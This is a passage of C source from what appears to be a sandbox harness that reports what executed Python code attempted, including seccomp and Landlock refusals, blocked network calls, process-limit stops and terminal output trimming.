keep_literals(struct cpy *c, const struct raw *r)
{
	size_t off = 0;

	size_t k = 0;

	if (!r->has_lits)
		return;
	while (off < r->lits_len) {	/* (read_reply checked the pairs) */
		off += strlen(r->lits + off) + 1;
		k++;
	}
	c->lits = xreallocarray(NULL, k + 1, sizeof *c->lits);
	off = 0;
	while (off < r->lits_len) {
		c->lits[c->nlits * 2] = xstrdup(r->lits + off);
		off += strlen(r->lits + off) + 1;
		c->lits[c->nlits * 2 + 1] = xstrdup(r->lits + off);
		off += strlen(r->lits + off) + 1;
		c->nlits++;
	}
}

/* Keep the names the world reported, sorted. */
static void
keep_names(struct cpy *c, const struct raw *r)
{
	size_t off = 0, j;

	if (!r->has_names)
		return;
	cpy_free_names(c);
	keep_literals(c, r);
	while (off < r->names_len) {
		const char *s = r->names + off;
		size_t n = strlen(s);
		off += n + 1;
		if (n == 0)
			continue;
		c->names = xreallocarray(c->names, c->nnames + 1,
		    sizeof *c->names);
		for (j = c->nnames; j > 0 && strcmp(c->names[j - 1], s) > 0;
		    j--)
			c->names[j] = c->names[j - 1];
		c->names[j] = xstrdup(s);
		c->nnames++;
	}
}

/*
 * What a jail world's kernel refused, for the record's reason: the first
 * call its seccomp supervisor refused ("seccomp" events: pyrun.c sends
 * only the supervisor's, never the code's own), else an EACCES on an
 * open, a listing or another call on a path, which in a jail world is
 * Landlock's (jailkind.c says why).
 */
/* The audit events whose first argument is a path Landlock judges. */
static const struct { const char *event, *doing; } path_calls[] = {
	{ "open", "opening" }, { "os.listdir", "listing" },
	{ "os.scandir", "listing" }, { "os.mkdir", "creating" },
	{ "os.remove", "removing" }, { "os.rmdir", "removing" },
	{ "os.rename", "renaming" }, { "os.chdir", "entering" },
	{ "os.truncate", "truncating" }, { "os.link", "linking" },
	{ "os.symlink", "linking" }, { NULL, NULL },
};

/*
 * What an outside kind's sandbox stopped (gVisor's, the microVM's): it
 * has no network, so what the code asked for reached nothing, whether
 * it then raised or caught it: the first connection, else the first
 * datagram, lookup or request.
 */
static void
outside_refusal(const struct world_launcher *l, const struct raw *r,
    struct arena *a, struct world_reply *out)
{
	static const struct { const char *event, *doing; } net_calls[] = {
		{ "socket.connect", "connecting to" },
		{ "socket.sendto", "sending to" },
		{ "socket.sendmsg", "sending to" },
		{ "socket.getaddrinfo", "looking up" },
		{ "socket.gethostbyname", "looking up" },
		{ "urllib.Request", "requesting" },
	};
	size_t i, k;

	for (k = 0; k < sizeof net_calls / sizeof net_calls[0]; k++)
		for (i = 0; i < r->nevents; i++)
			if (is_event(&r->events[i], net_calls[k].event)) {
				out->refused = arena_printf(a, "%s: %s %s "
				    "reached nothing", l->no_network,
				    net_calls[k].doing,
				    shown(a, arg(&r->events[i], is_event(
				    &r->events[i], "socket.getaddrinfo") ||
				    is_event(&r->events[i],
				    "socket.gethostbyname") || is_event(
				    &r->events[i], "urllib.Request") ? 0 : 1)));
				out->layer = l->layer;
				return;
			}
}

static void
jail_refusal(const struct cpy *c, const struct raw *r, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (c->launch != NULL)
		outside_refusal(c->launch, r, a, out);
	if (c->kind != WORLD_KIND_JAIL)
		return;
	for (i = 0; i < r->nevents && out->refused == NULL; i++)
		if (is_event(&r->events[i], "seccomp")) {
			out->refused = refusal_text(a, arg(&r->events[i], 0));
			out->layer = "seccomp";
		}
	if (out->refused != NULL || r->status != WW_RAISED ||
	    r->error == NULL ||
	    strncmp(r->error, "PermissionError: [Errno 13]", 27) != 0)
		return;
	for (i = r->nevents; i > 0 && out->refused == NULL; i--) {
		size_t k;
		for (k = 0; path_calls[k].event != NULL; k++)
			if (is_event(&r->events[i - 1], path_calls[k].event))
				break;
		if (path_calls[k].event == NULL)
			continue;
		out->refused = arena_printf(a, "%s %s is forbidden: it is "
		    "outside what the jail grants", path_calls[k].doing,
		    shown(a, arg(&r->events[i - 1], 0)));
		out->layer = "landlock";
	}
}

/*
 * In a jail world an audit event is what the code asked for, not what
 * happened: a program it asked to run, a request or connection it asked
 * to make, the kernel refused (the "denied" effects say so, from the
 * seccomp supervisor).  Those effects are told as attempts, with no
 * category of harm; what did happen inside (a fork, a file removed) is
 * left as it is.  In any world without the fake internet, a request or
 * connection is an attempt too: there was no network to carry it.
 */
static void
jail_intentions(const struct cpy *c, struct effects *e, size_t from)
{
	bool jail = c->kind == WORLD_KIND_JAIL;
	size_t i;

	if (world_kind_has_fakenet(c->kind))
		return;
	for (i = from; i < e->n; i++) {
		struct world_effect *f = &e->v[i];

		if (jail && strcmp(f->op, "denied") == 0)
			f->source = "seccomp";
		else if (world_kind_contains(c->kind) &&
		    strcmp(f->op, "exec") == 0 && strncmp(f->text,
		    "could not start a process", 25) != 0) {
			/* (in gVisor, its Sentry runs it, in its sandbox;
			 * in a microVM, the guest's kernel) */
			f->category = NULL;
			f->text = c->launch != NULL ? arena_printf(e->a,
			    "ran %s %s", f->target, c->launch->inside) :
			    arena_printf(e->a, "tried to run %s", f->target);
		} else if (strcmp(f->op, "send") == 0 ||
		    strcmp(f->op, "connect") == 0) {
			static const char *const verbs[][2] = {
				{ "sent ", "tried to send " },
				{ "fetched ", "tried to fetch " },
				{ "connected ", "tried to connect " },
			};
			size_t v, l;

			f->category = NULL;
			for (v = 0; v < sizeof verbs / sizeof verbs[0]; v++) {
				l = strlen(verbs[v][0]);
				if (strncmp(f->text, verbs[v][0], l) == 0) {
					f->text = arena_printf(e->a, "%s%s",
					    verbs[v][1], f->text + l);
					break;
				}
			}
		}
	}
}

/* A jail world's fork bomb: fork's EAGAIN is RLIMIT_NPROC stopping it. */
static void
jail_limit(const struct cpy *c, const struct raw *r, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (!world_kind_contains(c->kind) || out->status != WORLD_RAISED ||
	    strncmp(out->error, "BlockingIOError", 15) != 0)
		return;
	for (i = 0; i < r->nevents; i++)
		if (is_event(&r->events[i], "os.fork")) {
			out->status = WORLD_KILLED;
			out->layer = "rlimit";
			out->error = arena_printf(a, "RLIMIT_NPROC (%d "
			    "processes) refused os.fork: %s", WORLD_NPROC,
			    out->error);
			return;
		}
}

/* A program the input could not start because the world's process
 * limit was full: the outcome says so in words, never a green ok. */
static void
spawn_limit(const struct effects *e, struct arena *a,
    struct world_reply *out)
{
	size_t i;

	if (out->status != WORLD_OK && out->status != WORLD_RAISED)
		return;
	for (i = 0; i < e->n; i++)
		if (strcmp(e->v[i].op, "exec") == 0 &&
		    strncmp(e->v[i].text, "could not start a process: ", 27)
		    == 0) {
			out->error = out->status == WORLD_RAISED ?
			    arena_printf(a, "%s; then %s", e->v[i].text,
			    out->error) : e->v[i].text;
			out->status = WORLD_KILLED;
			out->layer = "rlimit";
			return;
		}
}

/* The output is what a terminal would have shown, the prompt's echoes
 * and traceback included -- but for the echo of the result when it came
 * last: the result is that echo, and the screen shows it after the
 * output as the prompt does.  The print effect also leaves out a
 * traceback the prompt printed last, which is an effect of its own (the
 * reason says its last line; a trace line tells what was printed, and a
 * traceback is not that). */
static void
reply_output(const struct raw *r, struct effects *e, struct world_reply *out)
{
	struct arena *a = e->a;

	if (r->output_len > 0) {
		size_t n, keep, tail, k;
		struct world_chunk *ck;
		const char *all;
		char *t;

		ck = output_chunks(a, r->output, r->output_len, &out->nchunks,
		    &n);
		all = output_text(a, ck, out->nchunks, n);
		tail = r->tail <= n ? r->tail : 0;	/* (text bytes) */
		keep = n - tail;
		/* the print effect and the trace keep the text as one */
		t = arena_strndup(a, all, keep);
		n = strlen(t);	/* (an effect's text ends at a NUL) */
		if (n > 0 && t[n - 1] == '\n')
			t[--n] = '\0';
		out->output = t;
		if (n > 0)
			effect(e, "print", "stdout", NULL, t);
		if (r->tail_kind == WW_TAIL_TRACEBACK && tail > 0) {
			t = arena_strndup(a, all + keep, tail);
			n = strlen(t);
			if (n > 0 && t[n - 1] == '\n')
				t[--n] = '\0';
			if (n > 0)
				effect(e, "traceback", "stderr", NULL, t);
		} else if (r->tail_kind == WW_TAIL_ECHO)
			/* the chunks without the echo's bytes, from the end */
			for (k = out->nchunks; k > 0 && tail > 0; k--) {
				size_t cut = tail < ck[k - 1].len ? tail :
				    ck[k - 1].len;
				ck[k - 1].len -= cut;
				((char *)ck[k - 1].text)[ck[k - 1].len] = '\0';
				tail -= cut;
				if (ck[k - 1].len == 0)
					out->nchunks--;
			}
		out->chunks = ck;
	}
}

/* What the reply r of input in did, into e and out (cpy_run). */
void
cpy_reply_effects(struct cpy *c, const struct world_input *in,
    struct raw *r, struct effects *e, struct world_reply *out)
{
	struct arena *a = in->a;

	/* What reached the fake internet, first into a list of its own: it
	 * decides how the audit events' connections are told. */
	{
		struct effects sink = { .a = a, .source = "sink", .c = c };
		char why[160];
		size_t k;

		/* (a kind without the fake internet has no network at
		 * all: nothing to read) */
		if (world_kind_has_fakenet(c->kind) &&
		    fakenet_read_captures(&c->net, 1000, on_capture, &sink,
		    why, sizeof why) == -1)
			effect(&sink, "lost", "captures", NULL, arena_printf(a,
			    "the fake internet did not answer: %s", why));
		e->captured = sink.captured;
		e->source = "audit";
		k = e->n;
		event_effects(e, r);
		jail_intentions(c, e, k);
		for (k = 0; k < sink.n; k++)
			add_effect(e, sink.v[k].op, sink.v[k].target,
			    sink.v[k].category, sink.v[k].text, "sink");
	}
	jail_refusal(c, r, a, out);
	keep_names(c, r);
	{
		/* (the session's copy: bounded, and never what the world
		 * no longer has) */
		struct keep k;
		keep_start(&k, in->files_cap, c->files, a);
		keep_sent(&k, r->files, c->files, a);
		keep_unreadable(&k, r->files, c->files);
		out->truncated = read_back_note(c, r, c->files, &k, a);
		out->fs_partial = out->truncated != NULL;
		out->truncated = cut_notes(r, a, out->truncated);
		e->source = "workspace";
		diff_effects(e, c->files, r->files, k.unknown,
		    in->command != NULL);
	}
	e->source = "output";
	mfs_free(c->files);
	c->files = r->files;
	r->files = NULL;
	reply_output(r, e, out);
}

/* A limit that stopped the input, said in words (cpy_run). */
void
cpy_reply_limits(const struct cpy *c, const struct raw *r,
    const struct effects *e, struct world_reply *out)
{
	jail_limit(c, r, e->a, out);
	spawn_limit(e, e->a, out);
}

/* (cpy_run's, for an input that did not end well) */
void
cpy_effect(struct effects *e, const char *op, const char *target,
    const char *category, const char *text)
{
	effect(e, op, target, category, text);
}
